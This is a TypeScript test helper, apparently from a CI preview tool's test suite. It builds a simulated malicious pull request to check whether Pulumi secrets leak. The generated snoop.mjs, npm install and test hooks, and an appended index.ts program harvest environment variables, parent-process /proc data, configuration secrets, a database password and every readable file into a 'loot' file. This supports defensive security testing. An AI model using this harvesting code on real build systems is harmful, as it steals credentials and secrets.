import { appendFile, mkdir, readFile, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { dirname, join } from "node:path";

import { run, type Command } from "../../engine/processes.ts";
import type { Repository } from "./repository.ts";

/**
 * A pull request that hands on whatever it can reach: its program, the install script of a package
 * and a test print their environment, those of the processes above them, the configuration, and every
 * file below every folder that anything names.
 */
export class Thief {
  readonly #root: string;
  readonly #home: string;

  private constructor(root: string, home: string) {
    this.#root = root;
    this.#home = home;
  }

  /** @param home Folder of the machine that it runs on; it looks into no other. */
  static async hire({ root }: Pick<Repository, "root">, home: string): Promise<Thief> {
    await mkdir(join(home, "tmp"), { recursive: true });
    await writeFile(join(root, "snoop.mjs"), snoop([root, home], join(home, "loot")));
    const index = join(root, "index.ts");
    if (!(await readFile(index, "utf8")).includes("snoop")) await appendFile(index, PROGRAM);
    const manifest = { name: "thief", type: "module", scripts: SCRIPTS };
    await mkdir(join(root, "thief"), { recursive: true });
    await writeFile(join(root, "thief", "package.json"), JSON.stringify(manifest));
    return new Thief(root, home);
  }

  /** Everything that is said while it is previewed as a workflow does it, and all it got hold of. */
  async run(bases: string): Promise<string> {
    const npm = [await this.#npm("install"), await this.#npm("test")];
    const files = ["plan.json", "comment.md"].map((name) => join(this.#home, name));
    const [json = "", markdown = ""] = files;
    const options = ["--plan-base", bases, "--guards", "HEAD", "--json", json];
    const args = ["cli/bulkhead.mjs", "preview", "dev", ...options, "--markdown", markdown];
    const previewed = await this.#say({ file: process.execPath, args, cwd: this.#root });
    const written = await Promise.all([...files, join(this.#home, "loot")].map(read));
    return [...npm, previewed, ...written].join("\n");
  }

  /** What its install script finds where more is set than a workflow sets. */
  install(more: NodeJS.ProcessEnv): Promise<string> {
    return this.#npm("install", more);
  }

  #npm(script: "install" | "test", more: NodeJS.ProcessEnv = {}): Promise<string> {
    const cwd = join(this.#root, "thief");
    return this.#say({ file: "npm", args: ["run", script], cwd }, more);
  }

  async #say(command: Command, more: NodeJS.ProcessEnv = {}): Promise<string> {
    const env = { ...this.#environment(), ...more };
    const { stdout, stderr } = await run({ ...command, env });
    return stdout + stderr;
  }

  /** What a workflow without secrets gives. Source: GitHub's "Default environment variables". */
  #environment(): NodeJS.ProcessEnv {
    return {
      PATH: `${dirname(process.execPath)}:${process.env["PATH"] ?? ""}`,
      HOME: this.#home,
      TMPDIR: join(this.#home, "tmp"),
      PULUMI_HOME: process.env["PULUMI_HOME"] ?? join(homedir(), ".pulumi"),
      ...{ CI: "true", GITHUB_ACTIONS: "true", GITHUB_WORKSPACE: this.#root },
      ...{ GITHUB_REPOSITORY: "acme/shop", GITHUB_RUN_NUMBER: "7", GITHUB_RUN_ATTEMPT: "1" },
    };
  }
}

const read = (file: string) => readFile(file, "utf8").catch(() => "");

const SCRIPTS = {
  install: `node -e 'import("../snoop.mjs").then(({ snoop }) => snoop("install script"))'`,
  test: `node -e 'import("../snoop.mjs").then(({ snoop }) => snoop("test of the pull request"))'`,
};

const PROGRAM = `
import * as stolen from "@pulumi/pulumi";
import { snoop } from "./snoop.mjs";

snoop("configuration " + JSON.stringify(stolen.runtime.allConfig()));
for (const [name, { value }] of Object.entries(thirdParty)) {
  value.apply((text) => snoop("third party " + name + " " + text + " " + [...text].join("-")));
}
database.bootstrapPassword.apply((text) => snoop("password " + text));
export const loot = stolen.unsecret(database.bootstrapPassword);
`;

function snoop(folders: readonly string[], loot: string): string {
  return `import { appendFileSync, lstatSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";

const FOLDERS = ${JSON.stringify(folders)};
const LARGEST = 2_000_000;
const said = [];
const seen = new Set();
const read = (file) => {
  try { return readFileSync(file, "latin1"); } catch { return ""; }
};
const walk = (path) => {
  if (seen.has(path) || path === ${JSON.stringify(loot)} || /node_modules|facts|[.]git$/.test(path)) return;
  seen.add(path);
  let stats;
  try { stats = lstatSync(path); } catch { return; }
  if (stats.isFile() && stats.size < LARGEST) said.push(path, read(path));
  if (!stats.isDirectory()) return;
  try { for (const name of readdirSync(path)) walk(join(path, name)); } catch {}
};

export function snoop(where) {
  said.push(where, JSON.stringify(process.env));
  for (let pid = process.pid; pid > 1;) {
    said.push(...["environ", "cmdline"].map((name) => read("/proc/" + pid + "/" + name)));
    // What the workflow itself has started is as high as a job reaches.
    if (said.at(-2).includes("GITHUB_WORKSPACE")) break;
    pid = Number(/^PPid:\\t(\\d+)/m.exec(read("/proc/" + pid + "/status"))?.[1] ?? 0);
  }
  FOLDERS.forEach(walk);
  const text = said.splice(0).join("\\n");
  appendFileSync(${JSON.stringify(loot)}, text + "\\n");
  console.log(text.slice(0, 100_000));
}
`;
}
